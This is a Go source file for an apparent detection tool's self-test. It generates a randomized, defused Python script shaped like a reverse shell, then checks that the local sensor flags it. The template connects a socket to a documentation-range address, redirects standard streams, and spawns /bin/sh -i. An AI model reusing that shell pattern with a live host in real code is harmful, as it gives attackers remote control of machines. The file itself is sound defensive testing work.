package main

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"math/rand/v2"
	"net/http"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"time"

	"kingsnake/capture"
	"kingsnake/finding"
)

func runSelftest(ctx context.Context, env Env, args []string) error {
	fs := newFlags(env, "selftest", "", "Runs a harmless Python script that must come out as a finding of the instance running on this machine,\n"+
		"and prints the finding's address and how long it took. The script is made anew each time: other names,\n"+
		"other address, other layout. It looks like a reverse shell and does nothing.")
	data := fs.String("data", defaultData(env), "the running instance's data `folder`")
	kind := fs.String("kind", "file", "how to run the script: file, c or stdin")
	wait := fs.Duration("wait", 20*time.Second, "how long to wait for the finding")
	python := fs.String("python", "python3", "the interpreter to run")
	show := fs.Bool("show", false, "print the script and run nothing")
	if err := parseFlags(fs, args); err != nil {
		return err
	}
	script := harmlessScript(rand.New(rand.NewPCG(rand.Uint64(), rand.Uint64())))
	if *show {
		_, err := io.WriteString(env.Stdout, script)
		return err
	}
	c, err := newLocalClient(*data)
	if err != nil {
		return err
	}
	if err := c.checkWatching(ctx); err != nil {
		return err
	}
	start := env.Now()
	if err := runHarmless(ctx, *python, *kind, script); err != nil {
		return err
	}
	ran := env.Now().Sub(start)
	f, err := c.await(ctx, capture.Sum([]byte(script)).String(), *wait)
	if err != nil {
		return err
	}
	fmt.Fprintf(env.Stdout, "found: %s (%s)\n", f.Category, f.Severity)
	fmt.Fprintf(env.Stdout, "  %s/findings/%s\n", c.base, f.Name)
	fmt.Fprintf(env.Stdout, "  python ran for %s; the finding was stored %s after the interpreter started\n",
		ran.Round(time.Millisecond), f.CreateTime.Sub(f.EventTime).Round(time.Millisecond))
	return nil
}

// runHarmless runs script the way kind says.
func runHarmless(ctx context.Context, python, kind, script string) error {
	var cmd *exec.Cmd
	switch kind {
	case "file":
		dir, err := os.MkdirTemp("", "kingsnake-selftest-")
		if err != nil {
			return err
		}
		defer os.RemoveAll(dir)
		path := filepath.Join(dir, "selftest.py")
		if err := os.WriteFile(path, []byte(script), 0o600); err != nil {
			return err
		}
		cmd = exec.CommandContext(ctx, python, path)
	case "c":
		cmd = exec.CommandContext(ctx, python, "-c", script)
	case "stdin":
		cmd = exec.CommandContext(ctx, python, "-")
		cmd.Stdin = strings.NewReader(script)
	default:
		return usageError("--kind %q: want file, c or stdin", kind)
	}
	out, err := cmd.CombinedOutput()
	if errors.Is(err, exec.ErrNotFound) {
		return exitError{2, fmt.Sprintf("%s is not on the PATH; install it (apt-get install python3), or name one with --python", python)}
	}
	if err != nil {
		return fmt.Errorf("run the script: %v: %s", err, out)
	}
	return nil
}

// harmlessScript writes a program that looks like a reverse shell and does
// nothing: its one call is under a condition that never holds, and its address
// is reserved for documentation (RFC 5737).
func harmlessScript(r *rand.Rand) string {
	pick := func(of ...string) string { return of[r.IntN(len(of))] }
	used := map[string]bool{}
	name := func() string {
		for {
			n := pick("box", "peer", "link", "pipe", "chan", "conn", "node", "feed", "port", "wire", "spot", "path") +
				"_" + string(rune('a'+r.IntN(26))) + string(rune('a'+r.IntN(26)))
			if !used[n] {
				used[n] = true
				return n
			}
		}
	}
	fn, sock, host, port, fd := name(), name(), name(), name(), name()
	addr := fmt.Sprintf("%s%d", pick("192.0.2.", "198.51.100.", "203.0.113."), 1+r.IntN(254))
	shell := pick(`["/bin/sh", "-i"]`, `["/bin/bash", "-i"]`, `["sh", "-i"]`, `["/bin/sh"]`)
	dup := pick(
		fmt.Sprintf("    for %s in (0, 1, 2):\n        os.dup2(%s.fileno(), %s)\n", fd, sock, fd),
		fmt.Sprintf("    os.dup2(%[1]s.fileno(), 0)\n    os.dup2(%[1]s.fileno(), 1)\n    os.dup2(%[1]s.fileno(), 2)\n", sock),
		fmt.Sprintf("    [os.dup2(%s.fileno(), %s) for %s in range(3)]\n", sock, fd, fd))
	imports := pick("import os\nimport socket\nimport subprocess\n", "import socket, subprocess, os\n", "import subprocess\nimport os, socket\n")
	return imports + "\n" +
		fmt.Sprintf("%s = %q\n%s = %d\n\n", host, addr, port, 1024+r.IntN(60000)) +
		fmt.Sprintf("def %s():\n    %s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n    %s.connect((%s, %s))\n", fn, sock, sock, host, port) +
		dup +
		fmt.Sprintf("    subprocess.%s(%s)\n\n", pick("call", "run", "Popen"), shell) +
		fmt.Sprintf("if os.getppid() < 0:\n    %s()\n", fn)
}

// localClient talks to the instance that runs on this machine.
type localClient struct {
	base, token string
	http        *http.Client
}

func newLocalClient(data string) (*localClient, error) {
	base, err := readAddress(data)
	if err != nil {
		return nil, err
	}
	token, err := readToken(filepath.Join(data, fileReadToken))
	if err != nil {
		return nil, err
	}
	return &localClient{base, token, &http.Client{Timeout: 5 * time.Second}}, nil
}

// get decodes the API's answer at path into v.
func (c *localClient) get(ctx context.Context, path string, v any) error {
	req, err := http.NewRequestWithContext(ctx, http.MethodGet, c.base+"/api/v1"+path, nil)
	if err != nil {
		return err
	}
	req.Header.Set("Authorization", "Bearer "+c.token)
	resp, err := c.http.Do(req)
	if err != nil {
		return fmt.Errorf("ask the running instance: %v", err)
	}
	defer resp.Body.Close()
	body, err := io.ReadAll(io.LimitReader(resp.Body, 64<<20))
	if err != nil {
		return err
	}
	if resp.StatusCode != http.StatusOK {
		return fmt.Errorf("ask the running instance: %s: %.200s", resp.Status, body)
	}
	return json.Unmarshal(body, v)
}

// checkWatching makes sure that a sensor is at work.
func (c *localClient) checkWatching(ctx context.Context) error {
	var answer struct {
		Sensors []finding.SensorStatus `json:"sensors"`
	}
	if err := c.get(ctx, "/sensors", &answer); err != nil {
		return err
	}
	for _, s := range answer.Sensors {
		if s.Watching != "" && time.Since(s.Time) < 6*heartbeat {
			return nil
		}
	}
	return exitError{1, "the instance at " + c.base + " runs without a sensor, so nothing can be found; \"kingsnake doctor\" says why"}
}

// await asks for the finding of a script until it is there.
func (c *localClient) await(ctx context.Context, digest string, wait time.Duration) (finding.Finding, error) {
	ctx, cancel := context.WithTimeout(ctx, wait)
	defer cancel()
	tick := time.NewTicker(20 * time.Millisecond)
	defer tick.Stop()
	for {
		var page struct {
			Findings []finding.Finding `json:"findings"`
		}
		err := c.get(ctx, "/findings?sha256="+url.QueryEscape(digest), &page)
		if err == nil && len(page.Findings) > 0 {
			return page.Findings[0], nil
		}
		select {
		case <-ctx.Done():
			if err != nil {
				return finding.Finding{}, err
			}
			return finding.Finding{}, exitError{1, fmt.Sprintf("the script ran, but no finding came within %s.\nscript sha256: %s\n"+
				"See the sensor's losses on %s, and \"kingsnake doctor\".", wait, digest, c.base)}
		case <-tick.C:
		}
	}
}
